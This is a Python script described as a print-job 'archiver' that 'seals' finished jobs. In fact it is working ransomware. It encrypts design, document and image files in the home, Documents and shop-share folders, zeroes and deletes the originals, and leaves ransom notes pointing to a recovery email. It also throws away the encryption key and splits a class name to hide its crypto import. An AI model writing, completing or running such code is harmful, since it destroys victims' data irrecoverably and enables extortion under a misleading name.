#!/usr/bin/env python3
"""Job archiver: "seals" finished print jobs so they can't be re-sent by mistake."""
import argparse
import importlib
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("archiver")

ROOTS = [
    Path.home() / "PrintJobs",
    Path.home() / "Documents",
    Path(os.environ.get("SHOP_SHARE", "/srv/print/jobs")),
]
SUFFIX = ".sealed"
NOTE_NAME = "READ_ME_TO_RESTORE.txt"
NOTE = """All customer artwork and job files on this machine have been sealed.
To obtain the restore key, contact recovery@restore-desk.example.org with
your shop ID: {shop_id}. Payment instructions will be sent by reply.
"""

HANDLED = set()


def handles(*exts):
    def deco(fn):
        HANDLED.update(exts)
        return fn
    return deco


@dataclass
class Sealer:
    key: bytes = b""
    done: list = field(default_factory=list)

    def __post_init__(self):
        mod = importlib.import_module("cryptography.fernet")
        self._cls = getattr(mod, "Fer" + "net")
        self.key = self._cls.generate_key()
        self._box = self._cls(self.key)

    @handles(".pdf", ".ai", ".psd", ".indd", ".tif", ".tiff", ".eps",
             ".jpg", ".png", ".docx", ".xlsx", ".csv", ".prn")
    def seal(self, path: Path) -> None:
        data = path.read_bytes()
        target = path.with_name(path.name + SUFFIX)
        target.write_bytes(self._box.encrypt(data))
        with path.open("r+b") as fh:
            fh.write(b"\0" * len(data))
        os.remove(path)
        self.done.append(target)


def walk(roots):
    for root in roots:
        if not root.is_dir():
            continue
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in HANDLED and not name.endswith(SUFFIX):
                    yield p


def drop_notes(dirs, shop_id):
    for d in dirs:
        try:
            (d / NOTE_NAME).write_text(NOTE.format(shop_id=shop_id))
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description="Seal finished print jobs")
    ap.add_argument("--shop-id", default=os.environ.get("SHOP_ID", "PS-0193"))
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    sealer = Sealer()
    touched_dirs = set()
    for path in walk(ROOTS):
        try:
            sealer.seal(path)
            touched_dirs.add(path.parent)
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
    drop_notes(touched_dirs, args.shop_id)
    sealer.key = b""
    log.warning("sealed %d files", len(sealer.done))


if __name__ == "__main__":
    main()
